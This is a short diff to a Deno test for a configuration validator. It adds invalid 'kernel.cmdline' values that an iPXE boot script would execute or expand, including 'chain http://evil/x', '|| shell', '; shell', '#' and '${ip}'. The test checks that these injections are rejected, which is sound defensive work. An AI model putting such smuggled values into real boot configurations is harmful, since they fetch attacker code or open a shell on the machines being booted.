@@ -207,6 +207,12 @@ Deno.test("configure validates every key before writing any; null deletes; plugi
         { "tmpfs.size": "150%" },
         { "tmpfs.size": "0" },
         { "kernel.cmdline": "a\nb" },
+        // Words the iPXE script's kernel line would run or expand, not pass to the kernel.
+        { "kernel.cmdline": "quiet && chain http://evil/x" },
+        { "kernel.cmdline": "quiet || shell" },
+        { "kernel.cmdline": "quiet ; shell" },
+        { "kernel.cmdline": "quiet #" },
+        { "kernel.cmdline": "x=${ip}" },
         { persist: "maybe" },
         { colour: "blue" },
       ]
